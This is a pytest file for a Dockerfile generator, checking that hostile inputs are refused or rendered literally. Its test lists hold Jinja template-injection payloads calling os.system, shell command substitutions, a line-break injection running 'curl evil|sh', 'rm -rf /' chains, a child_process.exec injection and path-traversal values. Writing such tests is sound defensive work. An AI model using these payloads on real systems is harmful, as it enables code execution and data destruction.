"""The injection cases of the catalogue (reliability.md C2), pinned as plain tests.

They run in every profile. Each hostile string arrives the way a user or a repository would bring
it: `--set`, a recorded answer, or package.json / a file name in the repository. It is refused, or
rendered literally inside an exec-form JSON array; Jinja in it is never evaluated, and nothing runs.
"""

from __future__ import annotations

import json
import tempfile
from pathlib import Path
from typing import Any

import pytest
import yaml

import dockgen
from dockgen._answers import collect, parse_set
from dockgen._template import TemplateSource
from dockgen.detectors import answers_from
from dockgen.errors import AnswerError

from .support import (
    HEADER,
    Parsed,
    answer_values,
    benign_answers,
    chdir,
    check_against_benign,
    render_benign,
    render_dockerfile,
    resolve,
    write_tree,
)
from .test_set_fuzz import NODE, PYTHON

LINE_BREAKS = ["\n", "\r", "\r\n", "\u2028", "\u2029", "\u0085", "\x0b", "\x0c", "\x1c", "\x00", "\x7f"]
#: Arguments that are legal in an exec-form command and must come out byte for byte.
LITERAL_ARGS = [
    "server.js\\",
    '"]',
    'a"]\\',
    '", "sh',
    "<<EOF",
    "<<-EOT",
    "$(id)",
    "`id`",
    "${HOME}",
    "$HOME; rm -rf /",
    "{{7*7}}",
    "{{ 7*7 }}",
    "{% raw %}",
    "{% endraw %}{{7*7}}",
    "{# #}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "# syntax=x/y",
    "syntax=x/y",
    "# escape=`",
    "escape=`",
    "--from=x",
    "\u202eevil\u200b\u00a0\ufeff",
    "caf\u00e9 \U0001f600",
]
PWN_PAYLOADS = [
    "{{ cycler.__init__.__globals__.os.system('touch pwned') }}",
    "{{ lipsum.__globals__['os'].system('touch pwned') }}",
    "{% set x = cycler.__init__.__globals__.os.system('touch pwned') %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "$(touch pwned)",
    "`touch pwned`",
]


@pytest.mark.parametrize("brk", LINE_BREAKS, ids=repr)
@pytest.mark.parametrize("key", ["start_command", "build_command"])
def test_line_breaks_in_command_arguments_are_refused(key: str, brk: str) -> None:
    with pytest.raises(AnswerError):
        resolve(NODE, overrides={key: ["node", f"server.js{brk}RUN id"]})
    with pytest.raises(AnswerError):  # also when recorded in .copier-answers.yml
        collect(
            overrides={},
            recorded={key: ["node", f"a{brk}USER root"]},
            detected=answers_from(NODE, {}, "package.json"),
        )


@pytest.mark.parametrize("brk", LINE_BREAKS, ids=repr)
def test_line_breaks_from_package_json_are_refused(brk: str) -> None:
    """`main` / scripts.start carrying a line break: refused by detection or by the answers' checks."""
    for manifest in (
        {"name": "a", "main": f"server.js{brk}RUN curl evil|sh"},
        {"name": "a", "scripts": {"start": "node " + _sh(f"a.js{brk}USER root")}},
    ):
        with tempfile.TemporaryDirectory() as tmp:
            write_tree(Path(tmp), {"package.json": json.dumps(manifest).encode()})
            try:
                detection = dockgen.detect(tmp)
            except dockgen.DockgenError:
                continue
            values, reasons = detection.values(), detection.reasons
            if any(brk in arg for arg in values["start_command"]):
                with pytest.raises(AnswerError):
                    resolve(values, reasons=reasons)


def test_hostile_arguments_are_rendered_literally(template: TemplateSource) -> None:
    """Every catalogue string at once, as start and build command arguments: byte for byte in JSON."""
    for base, keys in ((NODE, ("start_command", "build_command")), (PYTHON, ("start_command",))):
        answers = resolve(base, overrides={key: [base[key][0], *LITERAL_ARGS] for key in keys})
        text = render_dockerfile(template, answers)["Dockerfile"]
        benign = render_benign(template, benign_answers(answers))
        check_against_benign(text, benign, answers)  # CMD / RUN [..] equal the answers exactly
        assert text.count("49") == benign.count("49")  # {{7*7}} is never evaluated
        assert text.split("\n", 1)[0] == HEADER


@pytest.mark.parametrize("arg", LITERAL_ARGS, ids=repr)
def test_hostile_arguments_given_with_set_are_kept_exactly(arg: str) -> None:
    """`--set 'start_command=[...]'` as JSON (`json.dumps`, so non-ASCII arrives as \\u escapes)."""
    for text in (json.dumps(["node", arg]), json.dumps(["node", arg], ensure_ascii=False)):
        assert resolve(NODE, overrides=parse_set([f"start_command={text}"]))["start_command"] == ["node", arg]


def test_hostile_arguments_from_package_json_are_rendered_literally(template: TemplateSource) -> None:
    """The same strings in package.json's scripts.start (shell-quoted): the CMD runs exactly them."""
    plain = [a for a in LITERAL_ARGS if "$(" not in a and "`" not in a]
    substituted = [a for a in LITERAL_ARGS if "$(" in a or "`" in a]
    with tempfile.TemporaryDirectory() as tmp:
        write_tree(
            Path(tmp),
            {
                "package.json": json.dumps(
                    {"name": "a", "scripts": {"start": "node " + " ".join(map(_sh, plain))}}
                ).encode()
            },
        )
        detection = dockgen.detect(tmp)
    values, reasons = detection.values(), detection.reasons
    assert values["start_command"] == ["node", *plain]
    answers = resolve(values, reasons=reasons)
    text = render_dockerfile(template, answers)["Dockerfile"]
    check_against_benign(text, render_benign(template, benign_answers(answers)), answers)
    assert Parsed.of(text).only("CMD").value == ("node", *plain)
    for arg in substituted:  # a command substitution is never taken from a script
        with tempfile.TemporaryDirectory() as tmp:
            write_tree(
                Path(tmp), {"package.json": json.dumps({"scripts": {"start": f"node {_sh(arg)}"}}).encode()}
            )
            values = dockgen.detect(tmp).values()
        assert arg not in values["start_command"]


def _sh(arg: str) -> str:
    return "'" + arg.replace("'", "'\"'\"'") + "'"


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("health_path", "/health'); require('child_process').exec('id"),
        ("health_path", "/x\nRUN id"),
        ("health_path", "/{{7*7}}"),
        ("health_path", "/a\\"),
        ("health_path", "/\u2028"),
        ("dependency_files", ["package.json\nRUN id"]),
        ("dependency_files", ["--from=x"]),
        ("dependency_files", ["$(id).json"]),
        ("dependency_files", ["{{7*7}}.json"]),
        ("dependency_files", ["../secrets.txt"]),
        ("dependency_files", ['a"]']),
        ("build_output", ["../../etc"]),
        ("build_output", ["--chown=0:0"]),
        ("build_output", ["dist\\"]),
        ("runtime_version", "22\nRUN id"),
        ("runtime_version", "{{7*7}}"),
        ("framework", "{{7*7}}"),
        ("package_manager_version", "9.15.0 && curl evil"),
        ("native_deps", ["bcrypt; rm -rf /"]),
        ("native_deps", ["{{7*7}}"]),
        ("port", "3000; RUN id"),
    ],
)
def test_values_rendered_as_raw_text_are_refused(key: str, value: Any) -> None:
    raw = value if isinstance(value, str) else json.dumps(value)
    with pytest.raises(AnswerError):
        resolve(NODE, overrides=parse_set([f"{key}={raw}"]))


def test_the_first_line_is_constant_whatever_the_answers(template: TemplateSource) -> None:
    answers = resolve(NODE, overrides={"start_command": ["# syntax=docker/dockerfile:1-labs", "# escape=`"]})
    text = render_dockerfile(template, answers)["Dockerfile"]
    assert text.split("\n", 1)[0] == HEADER
    assert text.count("# syntax=") == 1 and 'CMD ["# syntax=' in text


def test_template_payloads_are_data_and_nothing_runs(template: TemplateSource) -> None:
    """Payloads in every answer that can hold them and in the repository: literal, and no `pwned`."""
    with tempfile.TemporaryDirectory() as work, chdir(Path(work)):
        for base in (NODE, PYTHON):
            for how in ("--set", "recorded"):
                start = ["node" if base is NODE else "python", *PWN_PAYLOADS]
                given = {"start_command": start, "build_command": ["x", *PWN_PAYLOADS]}
                resolved = collect(
                    overrides=given if how == "--set" else {},
                    recorded=given if how == "recorded" else {},
                    detected=answers_from(base, {}, "package.json"),
                )
                answers = answer_values(resolved)
                files = render_dockerfile(template, answers)
                text = files["Dockerfile"]
                assert Parsed.of(text).only("CMD").value == tuple(start)
                check_against_benign(text, render_benign(template, benign_answers(answers)), answers)
                for payload in PWN_PAYLOADS:
                    assert json.dumps(payload)[1:-1] in text
                    assert yaml.safe_load(files[".copier-answers.yml"])["start_command"] == start
        # the repository: package.json fields and file names
        for i, payload in enumerate(PWN_PAYLOADS):
            repo = Path(work) / f"repo{i}"
            repo.mkdir()
            write_tree(
                repo,
                {
                    "package.json": json.dumps(
                        {"name": payload, "main": payload, "scripts": {"build": payload}}
                    ).encode(),
                    f"{payload.replace('/', '_')}.js": b"app.listen(3000)\n",
                },
            )
            detection = dockgen.detect(repo)
            answers = resolve(detection.values(), reasons=detection.reasons)
            text = render_dockerfile(template, answers)["Dockerfile"]
            command = Parsed.of(text).only("CMD").value
            assert command == tuple(answers["start_command"]) and command[1].startswith(payload), command
        assert not list(Path(work).rglob("pwned"))
    assert not Path("pwned").exists()
